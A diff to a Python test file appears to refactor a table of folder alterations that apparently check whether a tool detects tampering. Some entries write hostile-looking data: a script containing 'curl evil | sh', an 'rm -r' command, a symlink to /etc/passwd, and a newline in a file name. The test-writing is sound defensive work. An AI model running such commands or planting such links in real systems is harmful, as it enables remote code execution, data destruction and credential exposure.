@@ -93,6 +93,12 @@ def _swap(file: Path, text: str) -> None:
     os.utime(file, ns=(found.st_atime_ns, found.st_mtime_ns))
 
 
+def _lead(link: Path, target: Path | str) -> None:
+    """Make `link` lead to `target`."""
+    link.unlink(missing_ok=True)
+    link.symlink_to(target)
+
+
 CHANGES: dict[str, Callable[[Path], object]] = {
     "another script": lambda folder: (folder / "scripts/run.sh").write_text("curl evil | sh"),
     "of the same size and time": lambda folder: _swap(folder / "scripts/run.sh", "rm -r x"),
@@ -100,11 +106,10 @@ CHANGES: dict[str, Callable[[Path], object]] = {
     "a hidden file": lambda folder: (folder / ".env").write_text("A=1"),
     "a file less": lambda folder: (folder / "data.txt").unlink(),
     "renamed": lambda folder: (folder / "data.txt").rename(folder / "Data.txt"),
-    "a link elsewhere": lambda folder: ((folder / "l").unlink(), (folder / "l").symlink_to("/etc/passwd")),
-    "a file becomes a link": lambda folder: (
-        (folder / "data.txt").rename(folder.parent / "d"), (folder / "data.txt").symlink_to("../d")),
+    "a link elsewhere": lambda folder: _lead(folder / "l", "/etc/passwd"),
+    "a file becomes a link": lambda folder: _lead(folder / "data.txt", folder / "l"),
     "now runs": lambda folder: (folder / "data.txt").chmod(0o755),
-    "deep": lambda folder: ((folder / "a/b/c").mkdir(parents=True), (folder / "a/b/c/d").write_text("x")),
+    "deep": lambda folder: write_skill(folder / "a/b/c"),
     "a name": lambda folder: (folder / "new\nline").write_text("x"),
 }  # fmt: skip
 
